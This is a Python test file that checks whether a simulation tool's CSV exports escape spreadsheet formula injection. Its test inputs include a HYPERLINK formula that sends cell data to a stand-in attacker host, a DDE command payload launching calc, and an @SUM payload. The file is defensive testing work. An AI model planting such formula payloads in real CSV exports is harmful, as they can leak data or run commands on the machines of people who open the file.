"""CSV injection: a name a spreadsheet would run as a formula reaches every CSV file as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from flowsim.cli import app
from flowsim.experiment import run_experiment, run_sweep
from flowsim.results.csv_cells import escape_formulas, to_safe_csv
from flowsim.scenarios import scenario_from_dict
from tests.experiment.clinics import tiny_mapping

HOSTILE = '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_a_quote_and_nothing_else_changes(start: str) -> None:
    frame = pd.DataFrame(
        {
            "name": [f"{start}cmd|' /C calc'!A0", "plain", "a=b"],
            "kind": pd.Categorical([f"{start}x", "y", "y"]),
            "wait": [-3.5, 0.0, 2.0],
            "count": [-1, 0, 1],
        }
    )
    escaped = escape_formulas(frame)
    assert escaped["name"].tolist() == [f"'{start}cmd|' /C calc'!A0", "plain", "a=b"]
    assert escaped["kind"].tolist() == [f"'{start}x", "y", "y"]
    assert escaped["wait"].tolist() == [-3.5, 0.0, 2.0] and escaped["count"].tolist() == [-1, 0, 1]
    assert frame["name"].iloc[0].startswith(start)  # the caller's frame is untouched
    assert to_safe_csv(frame).split("\n")[1].startswith(f"'{start}cmd|' /C calc'!A0,")


def test_every_csv_of_a_run_and_of_a_sweep_escapes_a_hostile_name(tmp_path: Path) -> None:
    baseline = scenario_from_dict({**tiny_mapping(), "name": HOSTILE})
    redesign = scenario_from_dict({**tiny_mapping(rooms=3), "name": "@SUM(1+1)*cmd"})
    out = tmp_path / "run"
    run_experiment([baseline, redesign], 2, 1, workers=1, out=out)
    for name in ("kpis.csv", "summary.csv", "comparison.csv"):
        cells = _cells((out / name).read_text(encoding="utf-8"))
        assert f"'{HOSTILE}" in cells or "'@SUM(1+1)*cmd" in cells, name
        assert not any(cell.startswith(("=", "@")) for cell in cells), name

    sweep = run_sweep(baseline, [("exam_rooms.count", [1, 2])], 2, 1, tmp_path / "sweep", workers=1)
    cells = _cells((sweep.out_dir / "sweep_summary.csv").read_text(encoding="utf-8"))
    assert not any(cell.startswith("=") for cell in cells) and any(c.startswith(f"'{HOSTILE}") for c in cells)


def test_the_command_lines_csv_output_escapes_too(tmp_path: Path) -> None:
    scenario = tmp_path / "hostile.yaml"
    scenario.write_text(pd.Series({**tiny_mapping(), "name": HOSTILE}).to_json(), encoding="utf-8")
    result = CliRunner().invoke(app, ["run", str(scenario), "--reps", "2", "--workers", "1", "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    assert f"'{HOSTILE}" in cells and HOSTILE not in cells
